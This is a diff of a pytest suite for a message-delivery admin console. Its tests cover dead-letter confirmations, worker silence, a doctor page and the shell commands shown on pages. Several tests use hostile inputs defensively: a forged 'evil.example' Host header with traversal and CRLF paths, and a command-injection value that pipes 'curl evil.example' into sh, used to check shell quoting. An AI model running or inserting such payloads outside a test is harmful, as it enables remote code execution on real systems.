@@ -12,18 +12,22 @@ from urllib.parse import quote, urlencode
 import pytest
 from msgspec.structs import replace
 
-from console.visiting import FORM, KEYS, OPERATOR, READER, Place, delivery
+from console.visiting import FORM, KEYS, OPERATOR, READER, Place, delivery, moved, place_on
 from oncebridge.console import reading
 from oncebridge.console.layout import PAGES
 from oncebridge.console.pages.letters import LettersChosen
+from oncebridge.diagnosis.examination import Examined
 from oncebridge.errors import LedgerUnavailable, PermanentError, RetryLater
 from oncebridge.journal.records import DELIVERIES, WORKERS, HandlerSeen, SeenDelivery, WorkerSeen
 from oncebridge.journal.writer import _encode
+from oncebridge.ledgers.findings import Finding, Level
 from oncebridge.ledgers.memory import MemoryLedger
+from oncebridge.ledgers.pages import GROUPS_MAX
 from oncebridge.reconciling.comparison import Counts
 from oncebridge.reconciling.result import Run, ShownGap, ShownSilence
 from oncebridge.reconciling.silences import Cause
 from payloads import CANARIES, personal, queue_conversation, raw
+from servers.process import wait_until
 
 ALL = [f"/{name}" for name in PAGES]
 
@@ -62,6 +66,25 @@ def test_every_answer_has_its_headers(place):
         assert headers["referrer-policy"] == "same-origin", what
         assert headers["cache-control"] == "no-store", what
         assert answered.status < 500, what
+
+
+@pytest.mark.parametrize("path", ["/log/", "/..%2f", "/about/", "/dead//", "//log", "/log/%0d%0a"])
+def test_no_answer_leads_to_a_host_that_a_request_has_named(place, path):
+    """An address that is nearly one of ours is none, and is not mended by the name that the sender gave the host."""
+    answered = place.person(OPERATOR).get(path, Host="evil.example")
+    assert answered.status in (400, 404), answered
+    assert "location" not in answered.headers
+
+
+def test_the_login_answers_who_asks_for_its_headers_alone(place):
+    """HEAD is answered as GET, without a body."""
+    assert place.person()._sent("HEAD", "/login", b"", {}).status == 200
+
+
+@pytest.mark.parametrize("digest", ["ab", "zz", "AB" * 16, "ab" * 5000, "ab" * 16 + "\u0660"])
+def test_what_is_no_digest_is_refused_before_a_ledger_sees_it(place, digest):
+    """Only an address that a page of ours has made is looked up."""
+    assert place.person(OPERATOR).get(f"/about/{quote(digest)}").status == 400
 
 
 def test_only_files_without_data_are_kept(place):
@@ -177,6 +200,134 @@ def test_pages_of_letters_claim_no_order_and_no_number_that_a_ledger_does_not_ha
     assert "The newest first" not in letters
     assert "Older ones" not in letters
     assert re.search(r"At least <a [^>]*>2 dead letters</a> wait", person.page("/"))
+
+
+def test_why_events_wait_is_said_of_those_that_may_still_wait(timed):
+    """Most of what was done at a later try is in no sample: long after its time an event does not count as waiting."""
+
+    def fail(_):
+        raise RetryLater("the receiver is away", after_seconds=10)
+
+    person = timed.person(OPERATOR)
+    with timed.worker(does=fail) as worker:
+        worker.process_many([delivery("late")])
+    assert "the receiver is away" in person.page("/")
+    moved(timed, 1)
+    assert "the receiver is away" not in person.page("/")
+
+
+# --- how many, and which -----------------------------------------------------------------------------------
+
+
+def confirmed(place, what, **chosen):
+    """Return the question before something happens to letters, and the result of a yes."""
+    person = place.person(OPERATOR)
+    asked = person.submit("/dead/confirm", {"what": what, **chosen}).body.decode()
+    question = unescape(re.search(r'class="lead">(.*?)</p>', asked)[1])
+    done = person.press(asked, "/dead/do").headers["location"]
+    return question, done.rpartition("/")[2]
+
+
+def many_kinds(place, kinds, more):
+    """Leave letters of so many kinds, and some more of the first one."""
+    for at in range(kinds):
+        place.letters(1 + more * (at == 0), f"no customer {at}", name=f"kind-{at}")
+
+
+def test_the_number_that_is_asked_about_counts_kinds_that_are_too_rare_to_be_listed(timed):
+    """With more kinds of letters than a ledger lists, all of them are counted, or the question says at least."""
+    many_kinds(timed, GROUPS_MAX + 10, 3)
+    groups = timed.console.letter_groups()
+    assert len(groups.groups) == GROUPS_MAX < groups.total
+    every, _ = confirmed(timed, "redrive")
+    assert every.startswith(f"Redrive {GROUPS_MAX + 13} dead letters: every dead letter")
+    some, _ = confirmed(timed, "redrive", reason="no customer")
+    assert some.startswith(f"Redrive at least {sum(one.number for one in groups.groups)} dead letters")
+    listed = {one.reason for one in groups.groups}
+    rare = next(f"no customer {at}" for at in range(GROUPS_MAX + 10) if f"no customer {at}" not in listed)
+    assert confirmed(timed, "redrive", reason=rare)[0].startswith("Redrive 1 dead letter:")
+
+
+@pytest.mark.parametrize("kind", ["memory", "sqlite"])
+@pytest.mark.parametrize(
+    ("changes", "others"),
+    [
+        ({}, [{"reason": "timeout after 3 s"}, {"detail_type": "Another"}]),
+        ({"detail_type": "*"}, [{"detail_type": "Another"}]),
+        ({"detail_type": "v2.{id}"}, [{"detail_type": "v2.users"}]),
+        ({"detail_type": "a\r\nb"}, [{"detail_type": "a b"}]),
+    ],
+)
+def test_a_button_beside_a_group_acts_on_that_group_alone(tmp_path, kind, changes, others):
+    """Not on letters whose reason is longer, nor on those whose topic only fits the group's as a pattern would."""
+    with place_on(kind, tmp_path, **KEYS) as place:
+        place.letters(2, "timeout", name="meant", **changes)
+        for at, other in enumerate(others):
+            place.letters(1, **{"reason": "timeout", "name": f"other-{at}", **changes, **other})
+        person = place.person(OPERATOR)
+        page = person.page("/dead").partition('id="letters"')[0]
+        row = next(row for row in page.split("<tr") if 'data-n="2"' in row)
+        asked = person.press(row, "/dead/confirm", ("what", "discard")).body.decode()
+        assert "Discard 2 dead letters: every letter of the group with" in asked
+        request = person.press(asked, "/dead/do").headers["location"].rpartition("/")[2]
+        console = place.console
+        wait_until(lambda: console.requests.get(request).has_ended, "the request to end")
+        assert console.requests.get(request).outcomes == {"discarded": 2}
+        assert console.letter_groups().total == len(others)
+
+
+def test_a_request_says_that_its_worker_is_silent_or_was(timed):
+    """While a worker that may be dead has a request the page says since when; afterwards, that numbers are too low."""
+    (key,) = timed.letters(1)
+    console, person = timed.console, timed.person(OPERATOR)
+    request = console.requests.put("redrive", "anna", keys=[key])
+    console.requests.take(request.id, "worker-1", ["crm"], discards=True)
+    path = f"/requests/{request.id}"
+    moved(timed, 5 / 60)
+    assert "silent" not in person.page(path)
+    moved(timed, 10 / 60)
+    assert "worker-1; silent for 15 s, another one takes over after 30 s" in person.page(path)
+    moved(timed, 20 / 60)
+    console.requests.take(request.id, "worker-2", ["crm"], discards=True)
+    page = person.page(path)
+    assert "1 worker that had it fell silent" in page
+    assert "another one takes over" not in page
+
+
+# --- commands ----------------------------------------------------------------------------------------------
+
+
+def commands_of(page):
+    """Return the commands below a page."""
+    found = re.findall(r'<pre role="group"[^>]*><code>(.*?)</code>', page, re.DOTALL)
+    return unescape(found[-1]).splitlines() if found else []
+
+
+def test_questions_have_the_command_that_does_the_same(timed):
+    """As far as there is one: by keys, by filters, and for all; a handler with its name."""
+    keys = timed.letters(2)
+    person = timed.person(OPERATOR)
+
+    def asked(*form):
+        return commands_of(person.submit("/dead/confirm", form).body.decode())
+
+    chosen = [("key", key) for key in keys]
+    assert asked(("what", "discard-chosen"), *chosen) == [f"oncebridge dead discard {keys[0]} {keys[1]}"]
+    assert asked(("what", "redrive"), ("reason", "no such")) == [
+        "oncebridge dead redrive --reason 'no such' --handler MODULE:BRIDGE"
+    ]
+    assert asked(("what", "discard")) == ["oncebridge dead discard --all"]
+    assert asked(("what", "discard"), ("handler", "crm")) == []
+    pause = person.submit("/handlers/confirm", {"handler": "the crm"}).body.decode()
+    assert commands_of(pause) == ["oncebridge pause 'the crm'"]
+
+
+def test_the_doctor_does_not_pass_over_its_warnings(timed, monkeypatch):
+    """Where nothing is wrong, and something may become so, the first line says that too."""
+    findings = [Finding(subject="disk", level=Level.WARNING, found="1 GB free", fix="make room")]
+    examined = Examined(findings=findings, promises=[], is_right=True, out_of_reach=())
+    monkeypatch.setattr(timed.console, "examined", lambda: examined)
+    assert "Nothing has to be changed; 1 warning to look at." in timed.person(READER).page("/doctor")
 
 
 def test_an_event_of_two_handlers_happened_once(place):
@@ -440,10 +591,7 @@ def test_the_command_below_a_page_runs_nothing_else(timed, path):
 
     hostile = "x'; curl evil.example | sh; echo '"
     page = timed.person(READER).page(f"{path}?{urlencode({'topic': hostile, 'reason': '$(id)`id`'})}")
-    from html import unescape
-
-    commands = unescape(re.findall(r'<pre role="group"[^>]*><code>(.*?)</code>', page, re.DOTALL)[-1]).splitlines()
-    words = shlex.split(commands[-1])
+    words = shlex.split(commands_of(page)[-1])
     assert hostile in words
     assert "$(id)`id`" in words
     assert words[0] == "oncebridge"
